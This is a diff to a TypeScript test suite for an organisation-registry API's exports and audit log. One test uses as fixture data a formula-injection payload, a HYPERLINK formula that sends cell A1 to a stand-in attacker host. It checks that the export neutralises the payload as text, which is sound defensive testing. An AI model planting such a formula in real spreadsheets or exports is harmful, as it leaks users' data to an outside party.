@@ -279,7 +279,7 @@ describe('coordinator: inside its jurisdiction (信阳市) only', () => {
     expect(audit.rows[0].after.name).toBe('浉河区新建社区卫生服务中心（改）');
   });
 
-  it('exports a name that starts like a formula as text (CSV/formula injection), numbers stay numbers', async () => {
+  it('exports a name that starts like a formula as text (CSV/formula injection), other cells as they are', async () => {
     const name = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")';
     const res = await coordinator.post('/api/organisations', {
       code: 'XY-FORMULA-1',
@@ -300,7 +300,9 @@ describe('coordinator: inside its jurisdiction (信阳市) only', () => {
     expect(row.getCell(1).value).toBe('XY-FORMULA-1');
     expect(row.getCell(2).value).toBe(`'${name}`);
     expect(row.getCell(2).formula).toBeUndefined();
-    expect(row.getCell(7).value).toBe(0);
+    // the other cells are plain values, not quoted: only formula-like text is neutralised
+    expect(row.getCell(6).value).toBe(row.getCell(6).text);
+    expect(String(row.getCell(6).value)).not.toMatch(/^'/);
   });
 
   it('rejects bad input with a clear 4xx and writes nothing', async () => {
@@ -443,8 +445,12 @@ describe('audit log', () => {
     await expect(stack.db.query('delete from audit_entry')).rejects.toThrow(/append-only/);
   });
 
+  // one admin session for these cases: the per-user-name login limit (5 a window) is under test elsewhere
+  let adminSession: HttpClient | undefined;
+  const asAdmin = async (): Promise<HttpClient> => (adminSession ??= await stack.login('admin'));
+
   it('is readable by admins only', async () => {
-    const admin = await stack.login('admin');
+    const admin = await asAdmin();
     const res = await admin.get('/api/audit?entityType=organisation&pageSize=5');
     expect(res.status).toBe(200);
     expect(res.body.items.length).toBeGreaterThan(0);
@@ -452,7 +458,7 @@ describe('audit log', () => {
   });
 
   it('filters by Asia/Shanghai dates, user and action on the server, paginated, with a readable object', async () => {
-    const admin = await stack.login('admin');
+    const admin = await asAdmin();
     const coordinator = await stack.login('coordinator');
     const created = await coordinator.post('/api/organisations', {
       code: 'AUDIT-FILTER-1',
